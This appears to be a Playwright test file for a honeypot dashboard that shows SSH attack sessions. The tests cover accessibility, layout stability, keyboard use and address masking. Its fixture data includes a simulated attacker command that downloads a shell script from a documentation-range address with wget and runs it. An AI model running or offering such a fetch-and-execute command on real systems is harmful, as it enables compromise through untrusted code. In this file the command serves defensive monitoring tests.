// How the pages are to use: no finding of axe in any language and theme, all by keyboard, nothing jumps, nothing is masked in one place and told in another.
/// <reference lib="dom" />
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import type { Browser, Page } from 'playwright-core';
import {
  buildPages,
  launch,
  open as openPage,
  noBrowser as skip,
  type Watched,
  type WatchOptions,
  watch,
} from '../../test/web/browser.ts';
import { Dashboard, sessionEvents, stopAll, writeRecording } from '../../test/web/dashboard.ts';

const AXE = readFileSync(join(import.meta.dirname, '../../node_modules/axe-core/axe.min.js'), 'utf8');

let browser: Browser;
let pages: Awaited<ReturnType<typeof buildPages>> | undefined;
let dashboard: Dashboard;
/** Every page by its path. */
let paths: string[];

const ADDRESSES = ['198.51.100.23', '203.0.113.77', '2001:db8::17'];

before(async () => {
  if (skip) return;
  pages = await buildPages();
  dashboard = await Dashboard.start({
    pages: pages.directory,
    locate: (address) => (address.includes(':') ? {} : { country: 'NL', asn: 64_500, asName: 'Example Networks B.V.' }),
    geo: {
      sources: [
        {
          name: 'a database',
          built: Date.parse('2026-06-17'),
          attribution: ['IP Geolocation by DB-IP (https://db-ip.com/)'],
          gives: { country: true, asn: true },
          records: 1,
        },
      ],
      scanners: { count: 1, date: '2026-06-22' },
    },
  });
  const start = Date.now() - 1_800_000;
  const recording = writeRecording(dashboard.data, start, ['$ ', 'uname -a\r\nLinux\r\n$ '], ['uname -a\n']);
  for (let index = 0; index < 9; index++)
    dashboard.append(
      sessionEvents(
        start + index * 180_000,
        [
          { eventid: 'cowrie.session.connect' },
          { eventid: 'cowrie.client.version', version: 'SSH-2.0-libssh2_1.4.3' },
          { eventid: 'cowrie.client.kex', hassh: 'a'.repeat(32), hasshAlgorithms: 'x;y;z;none', kexAlgs: ['x'] },
          { eventid: 'cowrie.login.failed', username: 'root', password: `123456${index % 7}` },
          ...(index % 3 === 0
            ? [
                { eventid: 'cowrie.login.success', username: 'admin', password: 'admin' },
                { eventid: 'cowrie.command.input', input: `cd /tmp; wget http://${ADDRESSES[0]}/x.sh; sh x.sh` },
                {
                  eventid: 'cowrie.session.file_download',
                  url: `http://${ADDRESSES[0]}/x.sh`,
                  outfile: 'x',
                  shasum: 'c'.repeat(64),
                },
                {
                  eventid: 'cowrie.log.closed',
                  ttylog: `tty/${recording}`,
                  shasum: recording,
                  size: 9,
                  duplicate: false,
                },
              ]
            : []),
          { eventid: 'cowrie.session.closed', duration_ms: 8000, duration: 8 },
        ],
        ADDRESSES[index % ADDRESSES.length],
      ),
    );
  dashboard.read();
  const { items } = await dashboard.json<{ items: { id: number; recordings: string[] }[] }>('/sessions?limit=50');
  const recorded = items.find(({ recordings }) => recordings.length > 0)!;
  paths = [
    '/',
    '/explore?range=day',
    '/sessions',
    '/sessions?view=folded',
    '/sessions?username=nobody',
    `/sessions/${recorded.id}`,
    `/replay/${recording}?session=${recorded.id}`,
    '/explore?range=day&command=wget',
    '/attackers?range=all',
    '/attackers/asn/AS64500',
    '/credentials?range=all',
    '/credentials?range=all&show=wordlists',
    '/samples',
    `/samples/${'c'.repeat(64)}`,
    '/campaigns',
    '/replay',
    `/addresses/${ADDRESSES[0]}`,
    '/diary',
    '/health',
    '/no/such/page',
  ];
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await stopAll();
  pages?.remove();
});

const watched = (options: WatchOptions = {}): Promise<Watched> => watch(browser, dashboard, options);
const open = (page: Page, path: string) => openPage(page, dashboard.url(path));

interface Finding {
  id: string;
  nodes: { target: string[]; failureSummary: string }[];
}

const RULES = ['wcag2a', 'wcag2aa', 'wcag21a', 'wcag21aa', 'wcag22aa', 'best-practice'];
/** What a theme changes. */
const COLOURS = ['color-contrast', 'link-in-text-block'];

/** What axe finds: a rule, and the elements that break it. */
async function findings(page: Page, colours: boolean): Promise<string[]> {
  if (!(await page.evaluate(`'axe' in window`))) await page.evaluate(AXE);
  const runOnly = colours ? { type: 'rule', values: COLOURS } : { type: 'tag', values: RULES };
  const { violations } = await page.evaluate<{ violations: Finding[] }>(
    `axe.run(document, ${JSON.stringify({ resultTypes: ['violations'], runOnly })})`,
  );
  return violations.flatMap(({ id, nodes }) =>
    nodes.slice(0, 5).map(({ target, failureSummary }) => `${id}: ${target.join(' ')}: ${failureSummary}`),
  );
}

/** In the order in which they are chosen: every theme in both languages, every rule in each language once. */
const LOOKS = [
  { language: 'English', theme: 'Light', colours: false },
  { language: 'English', theme: 'Dark', colours: true },
  { language: '日本語', theme: '暗', colours: false },
  { language: '日本語', theme: '明', colours: true },
];

const settled = (page: Page) => page.locator('.waiting').first().waitFor({ state: 'detached' });

/** Presses a button of the sheet as a reader does, without loading the page again. */
async function choose(page: Page, name: string): Promise<void> {
  await page.evaluate(
    `[...document.querySelectorAll('.tools-sheet button')].find((button) => button.textContent === ${JSON.stringify(name)}).click()`,
  );
  await page.locator('main h1, main .entry, main .nothing').first().waitFor();
  await settled(page);
}

test('axe finds nothing on any page in any language and theme', { skip }, async () => {
  // Colours that are on their way to others would be judged half-way.
  const { page, trouble } = await watched({
    settings: { language: 'en', theme: 'light' },
    context: { reducedMotion: 'reduce' },
  });
  const found: string[] = [];
  for (const path of paths) {
    await open(page, path);
    await page.evaluate(`for (const details of document.querySelectorAll('details')) details.open = true`);
    for (const { language, theme, colours } of LOOKS) {
      await choose(page, language);
      await choose(page, theme);
      found.push(...(await findings(page, colours)).map((finding) => `${path} ${language} ${theme}: ${finding}`));
    }
  }
  await page.keyboard.press('?');
  found.push(...(await findings(page, false)));
  assert.deepEqual(found, []);
  assert.deepEqual(
    trouble.filter((line) => !line.includes('status of 404')),
    [],
  );
  await page.context().close();
});

test('nothing jumps while a page comes', { skip }, async () => {
  const { page } = await watched();
  await page.addInitScript(
    `addEventListener('DOMContentLoaded', () => {
       window.shift = 0;
       new PerformanceObserver((list) => {
         for (const entry of list.getEntries()) if (!entry.hadRecentInput) window.shift += entry.value;
       }).observe({ type: 'layout-shift', buffered: true });
     });`,
  );
  const shifts: Record<string, number> = {};
  for (const path of paths) {
    await open(page, path);
    await page.waitForTimeout(100);
    const shift = await page.evaluate<number>('window.shift');
    // Good is at most 0.1 (web.dev, Core Web Vitals).
    if (shift > 0.1) shifts[path] = shift;
  }
  assert.deepEqual(shifts, {});
  await page.context().close();
});

test('the first page is a handful of requests to ourselves, and says what it is', { skip }, async () => {
  const { page } = await watched();
  const asked: string[] = [];
  page.on('request', (request) => asked.push(request.url()));
  await open(page, '/');
  await page.locator('.world .land').waitFor({ state: 'attached' });
  const { origin } = new URL(dashboard.web.url);
  assert.deepEqual(
    asked.filter((url) => !url.startsWith(origin)),
    [],
  );
  const files = asked.filter((url) => !url.includes('/api/'));
  // The document, three scripts (two of them shared with pages that come later), one style sheet, the outline of the world, the icon twice.
  assert.ok(files.length <= 8, files.join(' '));
  // Nothing is asked twice.
  const api = asked.filter((url) => url.includes('/api/'));
  assert.deepEqual(
    api.filter((url, index) => api.indexOf(url) !== index),
    [],
  );
  assert.ok(api.length <= 16, api.join(' '));
  assert.deepEqual(
    await page.evaluate(`({
      lang: document.documentElement.lang,
      viewport: document.querySelector('meta[name=viewport]').content,
      described: document.querySelector('meta[name=description]').content !== '',
      doctype: document.doctype.name,
      unsized: [...document.images].filter(({ width, height }) => !width || !height).length,
    })`),
    { lang: 'en', viewport: 'width=device-width, initial-scale=1', described: true, doctype: 'html', unsized: 0 },
  );
  await page.context().close();
});

test('all is reached by keyboard: the way past the navigation, keys, their list, and back', { skip }, async () => {
  const { page } = await watched({ settings: { language: 'en' } });
  await open(page, '/');
  await page.keyboard.press('Tab');
  assert.equal(await page.evaluate('document.activeElement.className'), 'skip');
  await page.keyboard.press('Enter');
  assert.equal(await page.evaluate('document.activeElement.id'), 'content');

  // The list of keys keeps the focus, and gives it back.
  await page.getByRole('link', { name: 'Explore', exact: true }).focus();
  await page.keyboard.press('?');
  const dialog = page.getByRole('dialog', { name: 'Keys' });
  await dialog.waitFor();
  for (let i = 0; i < 4; i++) {
    await page.keyboard.press('Tab');
    assert.ok(
      await page.evaluate(
        `document.activeElement === document.body || document.activeElement.closest('dialog') !== null`,
      ),
    );
  }
  await page.keyboard.press('Escape');
  await dialog.waitFor({ state: 'hidden' });
  assert.equal(await page.evaluate('document.activeElement.textContent'), 'Explore');

  await page.keyboard.press('g');
  await page.keyboard.press('s');
  await page.waitForURL(/\/sessions$/);
  await settled(page);
  await page.keyboard.press('/');
  await page.keyboard.type('g?e');
  assert.equal(await page.evaluate('document.activeElement.value'), 'g?e');
  assert.equal(await dialog.isVisible(), false);

  // Who wants no keys has none.
  await choose(page, 'Off');
  await page.evaluate(
    `[...document.querySelectorAll('.tools-sheet fieldset')].at(-1).querySelectorAll('button')[1].click()`,
  );
  await page.evaluate('document.activeElement.blur()');
  await page.keyboard.press('?');
  assert.equal(await dialog.isVisible(), false);

  // The sheet of preferences closes with Escape, and what was chosen stays.
  await page.locator('.tools summary').focus();
  await page.keyboard.press('Enter');
  await page.getByRole('combobox', { name: 'Times' }).selectOption('Asia/Tokyo');
  await page.keyboard.press('Escape');
  assert.equal(await page.locator('.tools').getAttribute('open'), null);
  await page.reload();
  assert.equal(await page.locator('.tools-sheet select').inputValue(), 'Asia/Tokyo');
  await page.context().close();
});

test('text may be spaced, enlarged fourfold, or drawn in the colours of the system', { skip }, async () => {
  // WCAG 1.4.10: 320 pixels are 1280 at 400 %; 1.4.12: the reader's spacing.
  const { page } = await watched({ width: 320, height: 640, context: { forcedColors: 'active' } });
  for (const path of paths) {
    await open(page, path);
    await page.evaluate(`{
      const sheet = new CSSStyleSheet();
      sheet.replaceSync('* { line-height: 1.5 !important; letter-spacing: 0.12em !important; word-spacing: 0.16em !important } p { margin-bottom: 2em !important }');
      document.adoptedStyleSheets = [sheet];
    }`);
    const over = await page.evaluate<number>('document.documentElement.scrollWidth - innerWidth');
    assert.ok(over <= 0, `${path} is ${over} px too wide`);
  }
  await page.context().close();
});

test('in screenshot mode no text, title, label or name of a page has an address or our own name', {
  skip,
}, async () => {
  const { page } = await watched({ settings: { mask: true } });
  for (const path of paths) {
    const named = page.waitForResponse(/\/top\/sensor/);
    await open(page, path);
    await named;
    await page.evaluate(`for (const details of document.querySelectorAll('details')) details.open = true`);
    const told = await page.evaluate<string[]>(`[
      document.title,
      document.body.textContent,
      ...[...document.querySelectorAll('*')].flatMap((element) =>
        ['title', 'aria-label', 'alt', 'aria-valuetext', 'placeholder', 'value'].map((name) => element.getAttribute(name) ?? '')),
      ...[...document.querySelectorAll('input')].map(({ value }) => value),
    ]`);
    for (const text of told)
      assert.doesNotMatch(text, /198\.51\.100\.23|203\.0\.113\.77|2001:db8::17|192\.0\.2\.1|kansatsu-test/, path);
  }
  // The address bar shows less, and Back, Forward and a reload still lead to the same place.
  await open(page, `/sessions?address=${ADDRESSES[1]}`);
  assert.equal(new URL(page.url()).search, '');
  await page.reload();
  await settled(page);
  await page.locator('.chips', { hasText: '○○○' }).waitFor();
  await choose(page, 'Off');
  assert.match(page.url(), /address=203\.0\.113\.77/);
  await page.context().close();
});
